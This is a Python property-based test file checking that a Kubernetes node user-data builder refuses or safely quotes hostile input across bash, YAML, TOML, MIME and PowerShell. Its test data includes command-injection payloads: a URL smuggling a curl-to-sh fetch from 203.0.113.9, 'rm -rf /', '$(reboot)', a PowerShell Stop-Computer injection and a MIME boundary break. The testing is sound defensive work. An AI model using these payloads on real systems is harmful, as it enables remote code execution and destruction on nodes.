"""Nothing typed reaches a node's boot script as code: every value karpweb writes into user data is
checked (`check_bootstrap` refuses, naming the field) and quoted for its language, for every AMI
family. Hostile strings go into each field; either the build is refused or:

* AL2: the script parses (`bash -n`) and, run with /etc/eks/bootstrap.sh replaced by a recorder,
  passes exactly the intended argv;
* AL2023: nodeadm's NodeConfig (YAML) holds exactly the values, in the one part karpweb wrote;
* Bottlerocket: the TOML holds exactly the values;
* Windows: the PowerShell command's single-quoted arguments read back exactly (no PowerShell here:
  Debian packages none, so a reader of PowerShell's single-quoted string rules stands in for it).

The quoting alone is also tried with the checks skipped (al2() and windows() called directly)."""

import json
import os
import subprocess
import sys
import tomllib
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from scheduling.adapters.ec2.userdata import (
    Bootstrap, UserDataError, al2, build, check_bootstrap, decode_node_configs, kubelet_extra_args, mime_parts,
    powershell_quote, windows,
)
from tests.support.properties import examples

SAFE = Bootstrap("prod", "https://ABCDEF0123.gr7.us-east-1.eks.amazonaws.com", "Q0EtREFUQQ==", "10.100.0.0/16",
                 labels={"team": "ml"}, taints=[{"key": "gpu", "value": "true", "effect": "NoSchedule"}],
                 kubelet={"systemReserved": {"cpu": "100m"}}, dns_ip="10.100.0.10")
PAYLOAD = "https://ABCD.gr7.us-east-1.eks.amazonaws.com/'$(curl${IFS}-s${IFS}http://203.0.113.9/x|sh)'"
PS_QUOTES = "'\u2018\u2019\u201a\u201b"

# Text that shells, PowerShell, YAML, TOML and MIME read specially, and anything else.
hostile = st.one_of(
    st.text(alphabet=st.sampled_from(list("'\"`$(){};|&<>\\\n\r\t #=,:/-_.aZ9") + list(PS_QUOTES)), max_size=40),
    st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=40),
    st.sampled_from([PAYLOAD, "</powershell>", "--//", "\n--//--\n", "a\nMIME-Version: 1.0", "$(reboot)",
                     "x' ; rm -rf / ; '", "x\u2019;Stop-Computer;\u2019"]),
)
FIELDS = ["cluster_name", "endpoint", "ca_bundle", "service_cidr", "dns_ip", "label_key", "label_value",
          "taint_key", "taint_value", "kubelet_key", "kubelet_value"]


def with_value(field: str, value: str) -> Bootstrap:
    if field == "label_key":
        return replace(SAFE, labels={value: "ml"})
    if field == "label_value":
        return replace(SAFE, labels={"team": value})
    if field == "taint_key":
        return replace(SAFE, taints=[{"key": value, "value": "true", "effect": "NoSchedule"}])
    if field == "taint_value":
        return replace(SAFE, taints=[{"key": "gpu", "value": value, "effect": "NoSchedule"}])
    if field == "kubelet_key":
        return replace(SAFE, kubelet={"systemReserved": {value: "100m"}})
    if field == "kubelet_value":
        return replace(SAFE, kubelet={"systemReserved": {"cpu": value}})
    return replace(SAFE, **{field: value})


# --- AL2: bash ------------------------------------------------------------------------------------

RECORDER = "import json, sys\nwith open(sys.argv[1], 'w') as out:\n    json.dump(sys.argv[2:], out)\n"


def al2_argv(script: str, tmp_path) -> list[str]:
    """The argv bootstrap.sh would get: the script checked by `bash -n`, then run with the
    bootstrap.sh call pointed at a recorder and the log redirection left out."""
    checked = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr
    record = tmp_path / "argv.json"
    recorder = tmp_path / "recorder.py"
    recorder.write_text(RECORDER)
    lines = script.split("\n")
    assert lines[0] == "#!/bin/bash -xe" and lines[1].startswith("exec > >(tee ")
    assert lines[2].startswith("/etc/eks/bootstrap.sh ")
    lines[1] = ""
    lines[2] = f"{sys.executable} {recorder} {record} " + lines[2].removeprefix("/etc/eks/bootstrap.sh ")
    ran = subprocess.run(["bash", "-e"], input="\n".join(lines), capture_output=True, text=True,
                         env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")})
    assert ran.returncode == 0, ran.stderr
    return json.loads(record.read_text())


def intended_al2_argv(boot: Bootstrap) -> list[str]:
    argv = [boot.cluster_name, "--apiserver-endpoint", boot.endpoint, "--b64-cluster-ca", boot.ca_bundle]
    if boot.dns_ip:
        if ":" in boot.dns_ip:
            argv += ["--ip-family", "ipv6"]
        argv += ["--dns-cluster-ip", boot.dns_ip]
    return argv + ["--kubelet-extra-args", " ".join(kubelet_extra_args(boot))]


def al2_script(user_data: str) -> str:
    return mime_parts(user_data)[-1][1]


@settings(max_examples=examples(150), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(FIELDS), value=hostile)
@example(field="endpoint", value=PAYLOAD)
def test_al2_is_refused_or_passes_exactly_the_intended_argv(tmp_path, field, value):
    boot = with_value(field, value)
    try:
        user_data = build("AL2", boot, None)
    except UserDataError as exc:
        assert str(exc), "a refusal names what is wrong"
        return
    assert al2_argv(al2_script(user_data), tmp_path) == intended_al2_argv(boot)


@settings(max_examples=examples(100), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=hostile, endpoint=hostile, ca=hostile, label=hostile)
@example(name="prod", endpoint=PAYLOAD, ca="Q0E=", label="ml")
def test_al2_quoting_alone_keeps_every_value_one_argument(tmp_path, name, endpoint, ca, label):
    """With the checks skipped, quoting still passes each value as exactly one argument."""
    boot = replace(SAFE, cluster_name=name, endpoint=endpoint, ca_bundle=ca, labels={"team": label})
    assert al2_argv(al2(boot), tmp_path) == intended_al2_argv(boot)


def test_the_reported_endpoint_payload_is_refused_naming_the_field():
    for family in ("AL2", "AL2023", "Bottlerocket", "Windows2022"):
        with pytest.raises(UserDataError, match="cluster endpoint"):
            build(family, replace(SAFE, endpoint=PAYLOAD), None)


# --- AL2023: nodeadm's YAML, Bottlerocket: TOML ----------------------------------------------------

@settings(max_examples=examples(150), deadline=None)
@given(field=st.sampled_from(FIELDS), value=hostile)
def test_al2023_and_bottlerocket_are_refused_or_hold_exactly_the_values(field, value):
    boot = with_value(field, value)
    try:
        check_bootstrap(boot)
    except UserDataError:
        for family in ("AL2023", "Bottlerocket", "Windows2022", "AL2"):
            with pytest.raises(UserDataError):
                build(family, boot, None)
        return
    user_data = build("AL2023", boot, None)
    assert [t.split(";")[0] for t, _ in mime_parts(user_data)] == ["application/node.eks.aws"]
    spec = decode_node_configs(user_data)[0]["spec"]
    assert spec["cluster"] == {"name": boot.cluster_name, "apiServerEndpoint": boot.endpoint,
                               "certificateAuthority": boot.ca_bundle, "cidr": boot.service_cidr}
    assert spec["kubelet"]["config"]["systemReserved"] == dict(boot.kubelet["systemReserved"])
    assert spec["kubelet"]["config"]["registerWithTaints"][0] == dict(boot.taints[0])

    settings_k8s = tomllib.loads(build("Bottlerocket", boot, None))["settings"]["kubernetes"]
    assert (settings_k8s["cluster-name"], settings_k8s["api-server"], settings_k8s["cluster-certificate"]) == (
        boot.cluster_name, boot.endpoint, boot.ca_bundle)
    assert {k: v for k, v in settings_k8s["node-labels"].items() if k in boot.labels} == dict(boot.labels)


@pytest.mark.parametrize("family", ["AL2", "AL2023", "Windows2022"])
def test_a_users_part_holding_the_boundary_cannot_end_the_document_early(family):
    """A user part with a line "--//" (upstream's boundary) gets a boundary it does not hold."""
    users = "#!/bin/bash\necho one\n--//\nContent-Type: text/x-shellscript\n\necho injected\n--//--\n"
    if family == "Windows2022":
        assert build(family, SAFE, "Write-Host ok").count("</powershell>") == 1
        return
    parts = mime_parts(build(family, SAFE, users))
    assert len(parts) == 2 and "echo injected" in parts[0][1]


# --- Windows: PowerShell --------------------------------------------------------------------------

def powershell_words(command: str) -> list[str]:
    """The words of a PowerShell command line of bare words and single-quoted strings, read as
    PowerShell reads them: a single-quoted string ends at any of its four quote marks unless the
    next character is one too (then that one is a literal)."""
    words, i = [], 0
    while i < len(command):
        c = command[i]
        if c == " ":
            i += 1
        elif c in PS_QUOTES:
            i, text = i + 1, []
            while True:
                assert i < len(command), "an unterminated string"
                if command[i] in PS_QUOTES:
                    if i + 1 < len(command) and command[i + 1] in PS_QUOTES:
                        text.append(command[i + 1])
                        i += 2
                        continue
                    i += 1
                    break
                text.append(command[i])
                i += 1
            words.append("".join(text))
        else:
            end = command.find(" ", i)
            end = len(command) if end < 0 else end
            word = command[i:end]
            assert not set(word) & set("$;&|(){}`\"'\n" + PS_QUOTES), f"bare word {word!r}"
            words.append(word)
            i = end
    return words


def windows_words(user_data: str) -> list[str]:
    start = user_data.index("& $EKSBootstrapScriptFile ") + len("& $EKSBootstrapScriptFile ")
    end = user_data.rindex("\n</powershell>")
    return powershell_words(user_data[start:end])


def intended_windows_words(boot: Bootstrap) -> list[str]:
    words = ["-EKSClusterName", boot.cluster_name, "-APIServerEndpoint", boot.endpoint, "-Base64ClusterCA",
             boot.ca_bundle, "-KubeletExtraArgs", " ".join(kubelet_extra_args(boot))]
    return words + (["-DNSClusterIP", boot.dns_ip] if boot.dns_ip else [])


@settings(max_examples=examples(200), deadline=None)
@given(field=st.sampled_from(FIELDS), value=hostile)
def test_windows_is_refused_or_passes_exactly_the_intended_arguments(field, value):
    boot = with_value(field, value)
    try:
        user_data = build("Windows2022", boot, None)
    except UserDataError:
        return
    assert user_data.lower().count("</powershell>") == 1
    assert windows_words(user_data) == intended_windows_words(boot)


@settings(max_examples=examples(200), deadline=None)
@given(name=hostile, endpoint=hostile)
def test_powershell_quoting_alone_keeps_every_value_one_argument(name, endpoint):
    boot = replace(SAFE, cluster_name=name, endpoint=endpoint)
    assert windows_words(windows(boot, None)) == intended_windows_words(boot)


def test_powershell_quote_doubles_every_single_quote_mark():
    assert powershell_quote("it's") == "'it''s'"
    assert powershell_quote("a\u2019b") == "'a\u2019\u2019b'"
